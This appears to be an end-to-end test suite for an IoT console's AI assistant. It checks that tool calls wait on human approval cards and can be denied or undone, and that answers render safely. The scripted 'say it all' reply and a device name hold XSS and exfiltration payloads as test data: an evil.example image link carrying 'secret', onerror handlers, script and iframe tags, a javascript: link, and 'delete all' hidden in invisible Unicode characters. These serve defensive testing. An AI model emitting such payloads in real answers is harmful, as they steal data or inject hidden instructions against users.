import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { type LlmSimulator, startLlmSimulator, type Turn } from '../tools/simulators/llm/llm-simulator.ts'
import { violations } from './fixtures/axe.ts'
import { apiClient, openBrowser, type VisitOptions, visitor } from './fixtures/console.ts'
import { type RunningServer, startServer } from './fixtures/server.ts'
import { AssistantCards } from './pages/assistant-cards.ts'
import { ConsolePage } from './pages/console-page.ts'

const call = (name: string, args: object): Turn => ({ toolCalls: [{ name, arguments: args }] })
const done: Turn = { text: 'That is all.' }

/** What the model does about each question, one turn after the other. */
const SCRIPT: Record<string, Turn[]> = {
  'rename the hall': [call('rename_device', { device: 'HALL-1', name: 'Lobby' }), done],
  'rename it again': [call('rename_device', { device: 'HALL-1', name: 'Foyer' }), done],
  'rename the attic': [call('rename_device', { device: 'ATTIC-1', name: 'Loft' }), done],
  'delete the attic': [call('delete_device', { device: 'ATTIC-1' }), done],
  'switch the heating on': [call('set_property', { device: 'HALL-1', property: 'heating', value: 'on' }), done],
  'tidy up': [
    call('make_plan', {
      steps: [
        { tool: 'rename_device', input: { device: 'CELLAR-1', name: 'Basement' } },
        { tool: 'rename_device', input: { device: 'TWIN-1', name: 'Twin north' } },
      ],
    }),
    done,
  ],
  'which devices': [call('list_devices', {}), done],
  'how warm was it': [call('telemetry_history', { device: 'HALL-1', property: 'temperature' }), done],
  'how to connect': [call('how_to_connect', { device: 'HALL-1' }), done],
  'which pump': [call('device_overview', { device: 'Twin' }), done],
  'say it all': [
    {
      text: [
        '# Title',
        'A **bold** word and [the list](/manage/device).',
        '',
        '| name | value |',
        '|---|--:|',
        '| a | 1 |',
        '',
        '```js',
        'let a = 1',
        '```',
        '',
        '![leak](https://evil.example/a.png?q=secret) <img src=https://evil.example/b.png onerror="window.hurt=1">',
        '',
        '<script>window.hurt = 1</script><iframe src="https://evil.example/c"></iframe>',
        '',
        '[click](javascript:window.hurt=1) [away](https://evil.example/d) [off](//evil.example/e) [api](/api/v1/devices)',
        '',
        `hidden${[...'delete all'].map(c => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}\u202etxet`,
      ].join('\n'),
    },
  ],
}

/** Id of the approval in the conversations that this browser keeps. */
const keptApproval = (page: Page) =>
  page.evaluate(async () => {
    const { id } = JSON.parse(localStorage.getItem('userToken')!) as { id: string }
    const open = indexedDB.open(`thingwright-assistant-${id}`)
    const db = await new Promise<IDBDatabase>(resolve => {
      open.onsuccess = () => resolve(open.result)
    })
    const all = db.transaction(id).objectStore(id).getAll()
    await new Promise(resolve => {
      all.onsuccess = resolve
    })
    db.close()
    return /"kind":"approval","id":"([^"]+)"/.exec(JSON.stringify(all.result))?.[1] ?? null
  })

describe('what the assistant shows', () => {
  let model: LlmSimulator
  let server: RunningServer
  let browser: Browser
  let api: Awaited<ReturnType<typeof apiClient>>
  const contexts: BrowserContext[] = []
  const ids: Record<string, string> = {}
  const nameOf = async (no: string) => (await api<{ name: string }>('GET', `/devices/${ids[no]}`)).name
  const HOSTILE = '![x](//evil.example/n) **all** <img src=x onerror=hurt=1>'

  beforeAll(async () => {
    model = await startLlmSimulator({
      script: ({ messages }) => {
        const asked = messages.findLastIndex(message => message.role === 'user')
        const turn = messages.slice(asked).filter(message => message.role === 'assistant').length
        const found = Object.entries(SCRIPT).find(([question]) => String(messages[asked]?.content).includes(question))
        return found?.[1][turn] ?? { text: 'Nothing.' }
      },
    })
    server = await startServer({ env: { LLM_BASE_URL: model.url, LLM_MODEL: 'sim' } })
    browser = await openBrowser()
    api = await apiClient(server.url)
    const product = await api<{ id: string; productKey: string }>('POST', '/products', {
      name: 'Thermometer',
      linkType: 'http',
      thingModel: {
        properties: [
          { identifier: 'temperature', name: 'Temperature', dataType: { type: 'double' }, unit: '°C', access: 'r' },
          { identifier: 'heating', name: 'Heating', dataType: { type: 'bool' }, access: 'rw' },
        ],
      },
    })
    for (const [no, name] of [
      ['HALL-1', 'Hall'],
      ['ATTIC-1', 'Attic'],
      ['CELLAR-1', 'Cellar'],
      ['TWIN-1', 'Twin east'],
      ['TWIN-2', 'Twin west'],
      ['EVIL-1', HOSTILE],
    ]) {
      const device = await api<{ id: string; deviceSecret: string }>('POST', '/devices', {
        name,
        productId: product.id,
        deviceNo: no,
      })
      ids[no!] = device.id
      if (no !== 'HALL-1') continue
      const reply = await fetch(`${server.url}/device/v1/${product.productKey}/${no}/property`, {
        method: 'POST',
        headers: { authorization: `Bearer ${device.deviceSecret}`, 'content-type': 'application/json' },
        body: JSON.stringify({ temperature: 21.5 }),
      })
      if (!reply.ok) throw new Error(`the device could not report: ${reply.status} ${await reply.text()}`)
    }
  })
  afterEach(async () => {
    for (const context of contexts.splice(0)) await context.close()
  })
  afterAll(async () => {
    await browser?.close()
    await server?.stop()
    await model?.close()
  })

  async function signedIn(options: VisitOptions = { locale: 'en' }): Promise<{ page: Page; panel: AssistantCards }> {
    const { context, page } = await visitor(browser, options)
    contexts.push(context)
    const console_ = new ConsolePage(page, server.url)
    await console_.enterAt('/manage/product')
    const panel = new AssistantCards(page)
    await panel.open()
    return { page, panel }
  }

  it('a change waits on a card with its exact call, is made by keyboard, and taken back', async () => {
    const { page, panel } = await signedIn()
    await panel.ask('rename the hall')
    await panel.approvalIs('Waiting for approval')
    const card = panel.approval
    // The card itself has the focus: a key on its way decides nothing.
    await expect.poll(() => card.evaluate(element => element === document.activeElement)).toBe(true)
    await expect
      .poll(() => card.getByRole('row').allTextContents())
      .toEqual(['FieldNowAfter', expect.stringMatching(/HallLobby$/)])
    await card.getByText('Write', { exact: true }).waitFor()
    await card.getByText(/exact call/).click()
    const calls = () => card.getByRole('group', { name: 'Calls that will be made' }).textContent()
    await expect.poll(calls).toContain('PATCH /api/v1/devices/{id}')
    await expect.poll(calls).toContain(ids['HALL-1'])
    expect(await nameOf('HALL-1')).toBe('Hall')

    await card.getByRole('button', { name: 'Allow once' }).focus()
    await page.keyboard.press('Enter')
    await panel.approvalIs('Done')
    expect(await nameOf('HALL-1')).toBe('Lobby')
    await page.getByText('That is all.').waitFor()

    await card.getByRole('button', { name: 'Undo', exact: true }).click()
    await card.getByText('Restore what was there before?').waitFor()
    await card.getByRole('button', { name: 'Keep changes' }).click()
    expect(await nameOf('HALL-1')).toBe('Lobby')
    await card.getByRole('button', { name: 'Undo', exact: true }).click()
    await card.getByRole('button', { name: 'Undo now' }).click()
    await panel.approvalIs('Undone')
    expect(await nameOf('HALL-1')).toBe('Hall')
  })

  it('what is denied is not done; deletes and device control are asked every time, with a warning', async () => {
    const { panel } = await signedIn()
    await panel.ask('delete the attic')
    await panel.approvalIs('Waiting for approval')
    await panel.approval.getByText('Delete', { exact: true }).waitFor()
    await panel.approval.getByText('This deletes something.').waitFor()
    const buttons = () => panel.approval.getByRole('button').allTextContents()
    await expect.poll(buttons).toEqual(['Allow once', 'Deny'])
    await panel.approval.getByRole('button', { name: 'Deny' }).click()
    await panel.approvalIs('Denied')
    expect(await nameOf('ATTIC-1')).toBe('Attic')

    await panel.ask('switch the heating on')
    await panel.approvalIs('Waiting for approval')
    await panel.approval.getByText('Device control', { exact: true }).waitFor()
    await panel.approval.getByText('cannot be undone').waitFor()
    await expect.poll(buttons).toEqual(['Allow once', 'Deny'])
    await panel.approval.getByRole('button', { name: 'Deny' }).click()
    await panel.approvalIs('Denied')
  })

  it('what was allowed for the chat is done with a card that does not wait, in another chat it asks again', async () => {
    const { page, panel } = await signedIn()
    await panel.ask('rename the hall')
    await panel.approvalIs('Waiting for approval')
    await panel.approval.getByRole('button', { name: 'Allow for this chat' }).click()
    await panel.approvalIs('Done')
    await page.getByText('That is all.').waitFor()
    await panel.answerTo('rename it again')
    await panel.approvalIs('Done')
    expect(await nameOf('HALL-1')).toBe('Foyer')

    const other = await signedIn()
    await other.panel.ask('rename the attic')
    await other.panel.approvalIs('Waiting for approval')
    await other.panel.approval.getByRole('button', { name: 'Deny' }).click()
  })

  it('a plan has one decision and one undo, its steps told one by one', async () => {
    const { panel } = await signedIn()
    await panel.ask('tidy up')
    await panel.approval.getByRole('heading', { name: 'Plan: 2 steps' }).waitFor()
    await expect.poll(() => panel.approval.getByTestId('approval-step').count()).toBe(2)
    await panel.approval.getByRole('button', { name: 'Allow once' }).click()
    await panel.approvalIs('Done')
    expect([await nameOf('CELLAR-1'), await nameOf('TWIN-1')]).toEqual(['Basement', 'Twin north'])
    const steps = panel.approval.getByTestId('approval-step')
    await expect.poll(() => steps.evaluateAll(all => all.map(one => one.dataset.state))).toEqual(['done', 'done'])
    await panel.approval.getByRole('button', { name: 'Undo the whole plan' }).click()
    await panel.approval.getByRole('button', { name: 'Undo now' }).click()
    await panel.approvalIs('Undone')
    expect([await nameOf('CELLAR-1'), await nameOf('TWIN-1')]).toEqual(['Cellar', 'Twin east'])
  })

  it('a card of an earlier visit tells what came of it meanwhile', async () => {
    const { page, panel } = await signedIn()
    await panel.ask('rename the attic')
    await panel.approvalIs('Waiting for approval')
    await panel.approval.getByRole('button', { name: 'Allow once' }).click()
    await page.locator('[data-testid=ai-reply][data-state="2"]').waitFor()
    expect(await nameOf('ATTIC-1')).toBe('Loft')
    // It is taken back elsewhere, once the browser has kept the conversation and its page is gone.
    let id: string | null = null
    await expect
      .poll(async () => {
        id = await keptApproval(page)
        return id
      })
      .not.toBeNull()
    await page.reload()
    await api('POST', `/assistant/approvals/${id}/undo`, {})
    await panel.open()
    await page.getByRole('button', { name: 'History' }).click()
    await page
      .getByTestId('ai-chat')
      .filter({ hasText: 'rename the attic' })
      .first()
      .getByRole('button')
      .first()
      .click()
    await panel.approvalIs('Undone')
    await panel.approval.getByRole('button', { name: 'Undo' }).waitFor({ state: 'detached' })
    expect(await nameOf('ATTIC-1')).toBe('Attic')
  })

  it('tables lead on and are copied, charts are drawn, code is ready to copy, a choice is made once', async () => {
    const { page, panel } = await signedIn()
    const asks = await panel.answerTo('which pump')
    const choices = asks.getByTestId('choices')
    await choices.getByRole('button', { name: /Twin east/ }).click()
    await page.getByTestId('ai-reply').nth(1).waitFor()
    await expect
      .poll(() => choices.getByRole('button').evaluateAll(all => all.every(one => (one as HTMLButtonElement).disabled)))
      .toBe(true)
    await expect.poll(() => choices.getByRole('button', { pressed: true }).textContent()).toContain('Twin east')
    await page.locator('[data-testid=ai-reply][data-state="2"]').nth(1).waitFor()

    const chart = (await panel.answerTo('how warm was it')).getByTestId('chart-card')
    await chart.getByRole('img').locator('canvas').waitFor()
    const history = await chart.getByRole('link').getAttribute('href')
    expect(history).toContain(ids['HALL-1'])

    const code = (await panel.answerTo('how to connect')).getByTestId('code-card')
    await expect.poll(() => code.getByRole('group').first().textContent()).toContain('/device/v1/')

    const table = (await panel.answerTo('which devices')).getByTestId('table-card')
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await table.getByRole('button', { name: 'Copy as CSV' }).click()
    await new ConsolePage(page, server.url).hasNotice('Copied as CSV')
    const csv = await page.evaluate(() => navigator.clipboard.readText())
    expect(csv).toContain('CELLAR-1')
    await table.getByRole('link', { name: 'Cellar', exact: true }).click()
    await new ConsolePage(page, server.url).isAt('/manage/device/DeviceSet/DeviceCenter')
    // The page changed, the conversation did not.
    await table.waitFor()
  })

  it('nothing in an answer or a name runs, leads away or fetches anything', async () => {
    const { page, panel } = await signedIn()
    const elsewhere: string[] = []
    page.on('request', request => {
      if (!request.url().startsWith(server.url) && !/^(data|blob):/.test(request.url())) elsewhere.push(request.url())
    })
    const reply = await panel.answerTo('say it all')
    const body = reply.getByTestId('message-body')
    await body.getByRole('link', { name: 'the list' }).waitFor()
    // Elsewhere leads only what says where it leads, in a tab that knows nothing of ours.
    await expect
      .poll(() => body.getByRole('link').allTextContents())
      .toEqual(['the list', 'https://evil.example/b.png', 'https://evil.example/d'])
    expect(await body.getByRole('link').last().getAttribute('rel')).toContain('noopener noreferrer')
    await body.getByText('window.hurt = 1</script>').waitFor()
    expect(await body.locator('img, script, iframe, svg[onload], [onerror]').count()).toBe(0)
    await expect.poll(() => body.textContent()).toContain('hiddentxet')

    const table = (await panel.answerTo('which devices')).getByTestId('table-card')
    await table.getByText(HOSTILE).waitFor()
    expect(await table.locator('img, strong').count()).toBe(0)
    expect(await page.evaluate(() => (window as unknown as { hurt?: number }).hurt)).toBeUndefined()
    expect(elsewhere).toEqual([])
    expect(model.faults).toEqual([])
  })

  it('speaks Chinese to those who do', async () => {
    const { panel } = await signedIn({ locale: 'zh', width: 1100 })
    await panel.ask('delete the attic')
    await panel.approvalIs('等待确认')
    await panel.approval.getByText('删除', { exact: true }).waitFor()
    await expect.poll(() => panel.approval.getByRole('button').allTextContents()).toEqual(['允许一次', '拒绝'])
    await panel.approval.getByRole('button', { name: '拒绝' }).click()
    await panel.approvalIs('已拒绝')
    await panel.approval.getByText('已拒绝，没有做任何更改。').waitFor()
  })

  it.each([
    { locale: 'zh', appearance: 'light', width: 1100 },
    { locale: 'en', appearance: 'dark', width: 1920 },
  ] as const)('every card is accessible and fits into the window ($locale, $appearance)', async look => {
    const { page, panel } = await signedIn(look)
    for (const question of ['say it all', 'which devices', 'how warm was it', 'how to connect', 'which pump'])
      await panel.answerTo(question)
    for (const question of ['delete the attic', 'tidy up']) {
      const before = await page.getByTestId('approval').count()
      await panel.ask(question)
      const card = page.getByTestId('approval').nth(before)
      const deny = card.getByRole('button').last()
      await deny.waitFor()
      expect(await violations(page), question).toEqual([])
      await deny.click()
      await card.and(page.locator('[data-state=denied]')).waitFor()
    }
    expect(await violations(page)).toEqual([])
    const box = page.getByTestId('ai-conversation')
    await expect.poll(() => box.evaluate(element => element.scrollWidth - element.clientWidth)).toBe(0)
  })
})
